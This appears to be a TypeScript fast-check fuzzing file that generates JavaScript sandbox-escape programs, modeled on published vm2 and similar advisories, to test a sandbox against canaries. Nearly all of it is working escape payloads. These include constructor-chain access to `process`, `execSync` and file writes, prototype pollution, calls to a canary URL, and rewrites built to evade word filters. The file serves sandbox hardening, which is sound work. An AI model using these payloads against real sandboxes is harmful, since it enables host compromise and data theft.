import fc from 'fast-check';

/**
 * How published escapes from JavaScript sandboxes went about it (vm2's advisories CVE-2019-10761 to CVE-2023-37903, SandboxJS, safe-eval,
 * static-eval, notevil, realms-shim, Node's vm, Figma's, Caja's), as bodies of `main(inputs)`. Each hands whatever it got hold of to `strike`,
 * which does harm to a host in every way it knows.
 */

/** Declared before each shape. `inputs` has the address, file and words of the canaries. */
export const STRIKE = `
const seen = [];
let aims;
function strike(...found) {
  for (const it of [...found, globalThis]) {
    if (it === null || (typeof it !== 'object' && typeof it !== 'function')) continue;
    for (const word of ['process', 'require', 'module', 'Buffer', 'fetch', 'WebAssembly', 'setTimeout', 'navigator', 'global', 'window', 'self', 'Deno', 'Bun', 'std', 'os', 'importScripts', 'postMessage', 'parentPort', 'Worker', 'XMLHttpRequest', 'WebSocket']) {
      try { if (it[word] !== undefined && word !== 'constructor') seen.push(word); } catch {}
    }
    try { seen.push(it.process.versions.v8, it.process.execPath, it.process.cwd()); } catch {}
    try { seen.push(it.process.env[aims.variable]); it.process.env[aims.variable] = 'struck'; } catch {}
    for (const get of [() => it.require, () => it.process.mainModule.require, () => it.process.getBuiltinModule, () => it.module.constructor._load, () => it.process.binding]) {
      try { get()('node:fs').writeFileSync(aims.file, 'struck'); } catch {}
      try { seen.push(get()('fs').readFileSync(aims.file, 'utf8')); } catch {}
      try { get()('child_process').execSync('echo struck > ' + aims.file); } catch {}
      try { get()('node:http').get(aims.url); } catch {}
    }
    try { it.fetch(aims.url); } catch {}
    try { new it.WebSocket(aims.url); } catch {}
    try { it[aims.global] = 'struck'; } catch {}
    try { it.Object.prototype[aims.global] = 'struck'; } catch {}
    try { it.constructor.prototype[aims.global] = 'struck'; } catch {}
    try { Object.getPrototypeOf(it)[aims.global] = 'struck'; } catch {}
    try { it.constructor.constructor('return this')()[aims.global] = 'struck'; } catch {}
    try { it.process.exit(1); } catch {}
  }
  return { seen };
}
`;

/** Something to start from: the mutations put one in the place of another. */
const BASES = [
  '[]',
  '""',
  '(0)',
  '({})',
  '/a/',
  '(() => 1)',
  '(function () {})',
  '(async () => 1)',
  '(function* () {})',
  '(async function* () {})',
  'Symbol.iterator',
  'true',
  '10n',
  'new Map()',
  'new Date()',
  'Promise.resolve(1)',
  'new Error("e")',
  'new Proxy({}, {})',
  'Math',
  'JSON',
  'Reflect',
  'globalThis',
  'console',
  'console.log',
  'inputs',
  'inputs.url',
  'main',
  'arguments',
  'new Uint8Array(1)',
  'new SharedArrayBuffer(8)',
  'Object.create(null)',
] as const;

/** BASE stands for one of the above. */
export const SHAPES: readonly (readonly [name: string, body: string])[] = [
  ['the constructor of a constructor', `return strike(BASE.constructor.constructor('return this')());`],
  ['the constructor of a constructor’s process', `return strike(BASE.constructor.constructor('return process')());`],
  ['require by a constructor', `return strike({ require: BASE.constructor.constructor('return require')() });`],
  [
    'this of a sloppy function',
    `return strike((0, eval)('this'), new Function('return this')(), (function () { return this; })());`,
  ],
  ['indirect eval', `return strike((0, eval)('globalThis'), [eval][0]('globalThis'), eval?.('this'));`],
  [
    'the constructor of an async function',
    `const F = (async () => {}).constructor; return strike(await F('return this')(), await F('return process')());`,
  ],
  [
    'the constructor of a generator',
    `const F = (function* () {}).constructor; return strike(F('return this')().next().value, F('yield process')().next().value);`,
  ],
  [
    'the constructor of an async generator',
    `const F = (async function* () {}).constructor; return strike((await F('return this')().next()).value);`,
  ],
  [
    'arguments.callee.caller',
    `function inner() { try { return strike(arguments.callee.caller, inner.caller, inner.arguments); } catch (e) { return strike(e); } } return inner();`,
  ],
  [
    'the caller by Function.prototype',
    `const get = Object.getOwnPropertyDescriptor(Function.prototype, 'caller'); return strike(get && get.get && get.get.call(main), main.caller);`,
  ],
  [
    'the frames of prepareStackTrace',
    `Error.prepareStackTrace = (error, frames) => { for (const f of frames) strike(f, f.getThis && f.getThis(), f.getFunction && f.getFunction()); return frames; }; try { null.x; } catch (e) { strike(e.stack); } return strike(new Error().stack);`,
  ],
  [
    'a getter of prepareStackTrace',
    `Object.defineProperty(Error, 'prepareStackTrace', { get() { return (e, f) => strike(f, ...[].concat(f)); }, set() {} }); Error.captureStackTrace && Error.captureStackTrace({}); return strike(new Error().stack, Error.stackTraceLimit = 1e9);`,
  ],
  [
    'the error of the host when the stack is full',
    `let last; const deeper = () => { try { deeper(); } catch (e) { last = e; strike(e, e.constructor && e.constructor.constructor); } }; deeper(); return strike(last.constructor.constructor('return process')());`,
  ],
  [
    'the error of the host when it is called wrongly',
    `for (const f of [console.log, console.error]) { try { f.call(null, { toString() { throw this; } }); } catch (e) { strike(e); } try { new f(); } catch (e) { strike(e, e.constructor.constructor('return this')()); } } return {};`,
  ],
  [
    'the writer behind the console',
    `return strike(console.log.constructor('return this')(), console.log.__proto__.constructor, console.constructor.constructor('return process')(), Object.getPrototypeOf(console.log));`,
  ],
  [
    'hooks on what the console is given',
    `console.log({ toString() { return strike(this, new Error()); }, toJSON() { return strike(this); }, [Symbol.toPrimitive]() { return strike(this); }, get length() { return strike(this); } }); return {};`,
  ],
  [
    'a console.log that is given itself',
    `console.log(console.log, globalThis, new Proxy(console, { get(t, k, r) { strike(t, r); return t[k]; } })); return strike(console.log.apply(BASE, [BASE]));`,
  ],
  [
    'Proxy traps at the border',
    `return new Proxy({ a: 1 }, { get(t, k, r) { strike(t, r, this); return Reflect.get(t, k); }, ownKeys(t) { strike(t, this); return ['a']; }, getOwnPropertyDescriptor(t, k) { strike(t); return { value: 1, enumerable: true, configurable: true }; }, getPrototypeOf(t) { strike(t); return Object.prototype; }, has(t) { strike(t); return true; } });`,
  ],
  [
    'a Proxy that lies about its type',
    `return new Proxy(function () {}, { get: (t, k) => k === 'toJSON' ? () => ({ a: strike(t) }) : t[k], apply: (t, self, list) => strike(self, ...list), construct: (t, list, made) => strike(made, ...list) });`,
  ],
  [
    'a revoked Proxy',
    `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); try { console.log(proxy); } catch (e) { strike(e); } return { a: proxy };`,
  ],
  [
    'getters on what is returned',
    `return { get a() { return strike(this, new Error()).seen; }, get b() { throw strike(this); }, get then() { strike(this); } };`,
  ],
  [
    'toJSON at the border',
    `return { a: { toJSON(key) { strike(this, key, arguments); return { toJSON: () => strike(1) }; } } };`,
  ],
  [
    'toString and valueOf at the border',
    `return { a: { toString() { return strike(this); }, valueOf() { return strike(this); }, [Symbol.toPrimitive](hint) { return strike(this, hint); } } };`,
  ],
  [
    'a thenable',
    `return { then(resolve, reject) { strike(resolve, reject, resolve.constructor('return this')(), this); resolve({ then: (again) => { strike(again); again({ a: 1 }); } }); } };`,
  ],
  [
    'a rejection with a trap',
    `throw new Proxy(new Error('x'), { get(t, k, r) { strike(t, r, this); return k === 'message' ? { toString: () => strike(t) } : t[k]; } });`,
  ],
  [
    'a thrown object full of traps',
    `throw { get name() { return strike(this); }, get message() { throw strike(this); }, get stack() { return { toString: () => strike(this) }; }, get cause() { return strike(this); } };`,
  ],
  [
    'a thrown function',
    `throw Object.assign(() => strike(globalThis), { toString: () => strike(1), message: strike });`,
  ],
  [
    '__proto__ in JSON',
    `return JSON.parse('{"__proto__": {"' + aims.global + '": "struck"}, "constructor": {"prototype": {"' + aims.global + '": "struck"}}, "a": {"__proto__": {"' + aims.global + '": "struck"}}}');`,
  ],
  [
    'keys that name prototypes',
    `return { ['__proto__']: { [aims.global]: 'struck' }, constructor: { prototype: { [aims.global]: 'struck' } }, prototype: 1, hasOwnProperty: 1, toString: 'x', then: null };`,
  ],
  [
    'a polluted prototype',
    `Object.prototype[aims.global] = 'struck'; Array.prototype[aims.global] = 'struck'; Function.prototype[aims.global] = 'struck'; Object.prototype.env = { NODE_OPTIONS: '--require ' + aims.file }; Object.prototype.shell = true; Object.prototype.execArgv = ['-e', '1']; return { a: 1 };`,
  ],
  [
    'a polluted prototype with setters',
    `Object.defineProperty(Object.prototype, 'kind', { get() { return 'outputs'; }, set(v) { strike(this, v); }, configurable: true }); Object.defineProperty(Object.prototype, 'isSpent', { get() { return strike(this), false; }, configurable: true }); return { a: 1 };`,
  ],
  [
    'built-ins of the border replaced',
    `JSON.stringify = (v) => '{"kind":"threw","name":"' + strike(v) + '"}'; JSON.parse = strike; Reflect.apply = strike; String.prototype.slice = function () { return strike(this); }; Array.isArray = () => true; Error.prototype.toString = strike; return { a: 1 };`,
  ],
  [
    'promises of the border replaced',
    `Promise.prototype.then = function (...list) { return strike(this, ...list); }; Promise.resolve = strike; Object.defineProperty(Promise, Symbol.species, { get() { return strike; } }); Object.defineProperty(Promise.prototype, 'constructor', { get() { strike(this); return Promise; } }); await 1; return { a: 1 };`,
  ],
  [
    'Symbol.species',
    `class L extends Array { static get [Symbol.species]() { return function (n) { strike(this, new.target, n); return []; }; } } return { a: new L(1, 2, 3).map((x) => x).filter(Boolean).concat([1]) };`,
  ],
  [
    'Symbol.hasInstance and unscopables',
    `for (const T of [Map, Set, Error, RegExp, Promise, ArrayBuffer]) Object.defineProperty(T, Symbol.hasInstance, { value: (v) => { strike(v); return false; } }); Object.prototype[Symbol.unscopables] = new Proxy({}, { get: (t, k) => strike(t) }); return { a: new Map(), b: new Error('e') };`,
  ],
  [
    'Symbol.toStringTag and isConcatSpreadable',
    `const o = { [Symbol.toStringTag]: { toString: () => strike(1) }, [Symbol.isConcatSpreadable]: true, get length() { return strike(this), 2; } }; return { a: [].concat(o), b: String(Object.prototype.toString.call(o)) };`,
  ],
  [
    'import()',
    `const found = []; for (const name of ['fs', 'node:fs', 'os', 'std', 'node:child_process', 'file:///etc/passwd', 'data:text/javascript,export default globalThis', './main.js', 'millrun.js', '', 'https://127.0.0.1/']) { try { found.push(await import(name)); } catch (e) { strike(e); } } return strike(...found);`,
  ],
  [
    'import.meta and a module by eval',
    `try { strike(eval('import.meta')); } catch (e) { strike(e); } try { strike(await eval('import("node:fs")')); } catch (e) { strike(e); } try { strike(await new Function('n', 'return import(n)')('node:fs')); } catch (e) { strike(e); } return {};`,
  ],
  [
    'ShadowRealm and other realms',
    `const found = []; for (const make of [() => new ShadowRealm().evaluate('globalThis'), () => new Realm(), () => new Compartment().globalThis, () => $262.createRealm().global, () => require('vm').runInThisContext('this')]) { try { found.push(make()); } catch (e) { strike(e); } } return strike(...found);`,
  ],
  [
    'WebAssembly',
    `try { const m = new WebAssembly.Memory({ initial: 1, shared: true, maximum: 65536 }); strike(m, m.buffer, WebAssembly.compile.constructor('return process')()); } catch (e) { strike(e); } return {};`,
  ],
  [
    'SharedArrayBuffer and Atomics',
    `try { const view = new Int32Array(new SharedArrayBuffer(1024)); typeof Atomics === 'object' && strike(Atomics.add(view, 0, 1), Atomics.notify && Atomics.notify(view, 0)); try { Atomics.wait(view, 0, 0, 10); } catch (e) { strike(e); } strike(view.buffer.constructor.constructor('return process')()); } catch (e) { strike(e); } return {};`,
  ],
  [
    'bytes out of range',
    `const out = []; for (const T of [Uint8Array, Float64Array, BigUint64Array, DataView]) { try { const v = new T(new ArrayBuffer(64), 8); out.push(v[-1], v[2 ** 31], v[2 ** 32], v.buffer.byteLength, v.getUint8 && v.getUint8(2 ** 31)); } catch (e) { strike(e); } } try { new ArrayBuffer(8).resize(2 ** 31); } catch (e) { strike(e); } return { a: out.length };`,
  ],
  [
    'a buffer taken away in use',
    `const b = new ArrayBuffer(4096), v = new Uint8Array(b); const evil = { valueOf() { try { b.transfer(0); } catch {} try { structuredClone(b, { transfer: [b] }); } catch {} return 1; } }; try { v.fill(evil); v.set([evil, evil]); v.copyWithin(0, evil); v.sort(() => +evil); } catch (e) { strike(e); } return { a: v.length };`,
  ],
  [
    'a list that shrinks while it is sorted',
    `const l = Array.from({ length: 500 }, (_, i) => ({ i })); try { l.sort((a, b) => { l.length = 0; for (let i = 0; i < 50; i++) l.push({ i, s: 'x'.repeat(100) }); return strike(a, b) ? 1 : -1; }); } catch (e) { strike(e); } return { a: l.length };`,
  ],
  [
    'a list changed while it is written',
    `const list = [1, { toJSON() { list.length = 0; list.push(...Array(1000).fill('y')); return strike(list); } }, 3]; return { list };`,
  ],
  [
    'a map changed while it is walked',
    `const m = new Map([[1, 1]]); let n = 0; m.forEach((v, k) => { m.delete(k); m.clear(); if (n++ < 500) m.set(k + 1, {}); }); const w = new WeakRef({}); return { a: m.size, b: typeof w.deref() };`,
  ],
  [
    'finalizers',
    `const registry = new FinalizationRegistry((held) => strike(held, globalThis)); for (let i = 0; i < 500; i++) registry.register({ i }, i, {}); try { gc(); } catch (e) { strike(e); } return { a: 1 };`,
  ],
  [
    'a regular expression with hooks',
    `const r = /a/g; r.exec = function () { strike(this, arguments); return null; }; r.lastIndex = { valueOf() { strike(this); r.compile && r.compile('(b)*', 'y'); return 1e9; } }; try { 'aaa'.replace(r, strike); 'a'.match(r); RegExp.prototype[Symbol.split].call(r, 'aaa'); } catch (e) { strike(e); } return { a: String(RegExp.$1) };`,
  ],
  [
    'with and labels',
    `try { strike(new Function('o', 'with (o) { return this; }')(new Proxy({}, { has: () => true, get: (t, k) => k === Symbol.unscopables ? undefined : strike }))); } catch (e) { strike(e); } return {};`,
  ],
  [
    'HTML comments and source tricks',
    `try { strike(eval('1 <!-- 2\\n//# sourceMappingURL=file:///etc/passwd\\n//# sourceURL=/etc/passwd\\nthis')); } catch (e) { strike(e); } return {};`,
  ],
  [
    'class fields and private names',
    `class A { #a = strike(this); static { strike(this); } static #b = new Function('return this')(); get() { return strike(A.#b, this.#a); } } return new A().get();`,
  ],
  [
    'super and home objects',
    `const o = { __proto__: { get a() { return strike(this); } }, get b() { return super.a; }, c() { return super.constructor.constructor('return this')(); } }; return { b: o.b, d: strike(o.c()) };`,
  ],
  [
    'new.target and Reflect.construct',
    `return strike(Reflect.construct(Function, ['return this'], BASE.constructor)(), Reflect.construct(Object, [], console.log));`,
  ],
  [
    'a bound and borrowed call',
    `return strike(Function.prototype.call.bind(Function.prototype.call)(Function, null, 'return this')(), Reflect.apply(Function, undefined, ['return process'])());`,
  ],
  [
    'global names one by one',
    `for (const word of Object.getOwnPropertyNames(globalThis)) { try { strike(globalThis[word], globalThis[word].constructor.constructor('return this')()); } catch (e) { strike(e); } } return { count: Object.getOwnPropertyNames(globalThis).length };`,
  ],
  [
    'the harness’s names',
    `for (const word of ['harness', 'write', 'options', 'optionsText', 'call', 'describe', 'encode', 'millrun', 'main', 'arguments', 'module', 'exports', 'd', 'Z', '_QTS_Eval']) { try { strike(eval(word), globalThis[word]); } catch (e) { strike(e); } } return {};`,
  ],
  [
    'an answer that is forged',
    `return { kind: 'returned', outputs: '{}', isSpent: true, failure: { code: 'internal', message: '=' }, '=': '={}', end: { isSpent: true } };`,
  ],
  [
    'an error that is forged',
    `throw Object.assign(new Error('out of memory'), { name: 'InternalError', stack: '    at main.js:99999999999999999999:1\\n main.js:-1 main.js:' + 'x'.repeat(100000) });`,
  ],
  [
    'large texts',
    `return { a: strike('x'.repeat(2 ** 20)).seen, b: '\\ud800'.repeat(1000) + '\\0\\u2028' + '\\\\'.repeat(1000), c: 'x'.padEnd(100000, 'é😀') };`,
  ],
  [
    'deep recursion into the host',
    `const deep = (n) => { try { console.log(n); JSON.stringify({ toJSON: () => deep(n + 1) }); } catch (e) { strike(e); throw e; } }; deep(0); return {};`,
  ],
  [
    'a job that outlives main',
    `Promise.resolve().then(() => Promise.resolve().then(() => strike(globalThis))); queueLater(); function queueLater() { (async () => { for (let i = 0; i < 100; i++) { await null; strike(i); } Object.prototype[aims.global] = 'struck'; })(); } return { a: 1 };`,
  ],
  [
    'main that replaces itself',
    `globalThis.main = strike; try { main = strike; } catch (e) { strike(e); } return { toString: main, valueOf: main };`,
  ],
  [
    'the inputs as a way out',
    `return strike(inputs.constructor.constructor('return this')(), inputs.__proto__.__proto__, Object.getPrototypeOf(inputs), inputs.__lookupGetter__ && inputs.__lookupGetter__('__proto__').call(inputs), inputs.url.constructor.constructor('return process')());`,
  ],
  [
    'an iterator with return',
    `const it = { [Symbol.iterator]: () => ({ next: () => ({ value: strike(1), done: false }), return: () => strike(2), throw: strike }) }; for (const x of it) break; const [a] = it; try { new Map(it); } catch (e) { strike(e); } return { a };`,
  ],
  [
    'Date and Intl',
    `try { strike(Intl, new Intl.DateTimeFormat().constructor.constructor('return process')()); } catch (e) { strike(e); } return { a: new Date(8.64e15 + 1).getTime() ? 1 : 0, b: new Date(-8.64e15).toString(), c: new Date(NaN).getDay() ? 1 : 0, d: strike(Date.prototype.constructor.constructor('return this')()) };`,
  ],
];

/** Ways to write the same thing that filters of words overlook. */
const REWRITES: readonly ((body: string) => string)[] = [
  (body) => body.replaceAll('.constructor', '["const" + "ructor"]'),
  (body) => body.replaceAll('.constructor', '[`\\u0063onstructor`]'),
  (body) => body.replaceAll('.constructor', '.c\\u006fnstructor'),
  (body) => body.replaceAll('.constructor', '?.constructor'),
  (body) => body.replaceAll('.constructor', '.__proto__.constructor'),
  (body) => body.replaceAll("'return this'", "'return globalThis'"),
  (body) => body.replaceAll("'return this'", "'return (function () { return this; })()'"),
  (body) => body.replaceAll("'return process'", "'return global.process.mainModule'"),
  (body) => body.replaceAll('strike(', '(0, strike)('),
  (body) => body.replaceAll('eval(', '(0, eval)('),
  (body) => body.replaceAll('Promise', '(async () => {})().constructor'),
];

/** Where a body may stand: `inner` is run as an async function of `inputs`. */
const SETTINGS: readonly ((inner: string) => string)[] = [
  (inner) => `return await (async (inputs) => { ${inner} })(inputs);`,
  (inner) => `return await eval(${JSON.stringify(`(async (inputs) => { ${inner} })`)})(inputs);`,
  (inner) =>
    `return await (async () => {}).constructor('inputs', 'strike', 'aims', ${JSON.stringify(inner)})(inputs, strike, aims);`,
  (inner) =>
    `return { a: await new Promise((resolve, reject) => { (async (inputs) => { ${inner} })(inputs).then(resolve, reject); }) };`,
  (inner) =>
    `try { ${inner} } catch (caught) { strike(caught, caught && caught.constructor); throw caught; } finally { strike(this); }`,
  (inner) =>
    `const results = []; for await (const it of (async function* () { yield await (async () => { ${inner} })(); })()) results.push(it); return { results };`,
  (inner) => `return { toJSON() { strike(this); return { a: 1 }; }, made: await (async () => { ${inner} })() };`,
  (inner) => `return new Proxy(Object(await (async () => { ${inner} })()), { get(t, k) { strike(t); return t[k]; } });`,
  (inner) =>
    `const made = {}; Object.defineProperty(made, 'a', { enumerable: true, get: () => strike(made) }); await (async () => { ${inner} })(); return made;`,
  (inner) =>
    `class Odd extends (async () => {}).constructor {} strike(new Odd('return this')()); return await (async () => { ${inner} })();`,
  (inner) => `Object.setPrototypeOf(inputs, new Proxy({}, { get: (t, k, r) => strike(t) })); ${inner}`,
  (inner) => `console.log(await (async () => { ${inner} })()); return {};`,
  (inner) => `throw await (async () => { ${inner} })();`,
];

/** The program of a shape. */
export function programOf(body: string): string {
  return `${STRIKE}\nasync function main(inputs) {\n  aims = inputs;\n  ${body.replaceAll('BASE', '[]')}\n}\n`;
}

/** Shapes with other bases, written another way, inside one another, one after the other, and damaged. */
export const mutatedEscape: fc.Arbitrary<string> = fc
  .record({
    first: fc.constantFrom(...SHAPES),
    second: fc.option(fc.constantFrom(...SHAPES), { freq: 2 }),
    base: fc.constantFrom(...BASES),
    rewrites: fc.uniqueArray(fc.nat({ max: REWRITES.length - 1 }), { maxLength: 3 }),
    settings: fc.array(fc.nat({ max: SETTINGS.length - 1 }), { maxLength: 3 }),
    damage: fc.oneof(
      { weight: 3, arbitrary: fc.constant(null) },
      {
        weight: 1,
        arbitrary: fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), length: fc.nat({ max: 6 }) }),
      },
    ),
  })
  .map(({ first, second, base, rewrites, settings, damage }) => {
    let body = first[1];
    if (second !== null)
      body = `try { await (async () => { ${second[1]} })(); } catch (before) { strike(before); } ${body}`;
    body = body.replaceAll('BASE', base);
    for (const index of rewrites) body = REWRITES[index]!(body);
    for (const index of settings) body = SETTINGS[index]!(body);
    if (damage !== null) {
      const at = Math.floor(damage.at * body.length);
      body = body.slice(0, at) + body.slice(at + damage.length);
    }
    return programOf(body);
  });
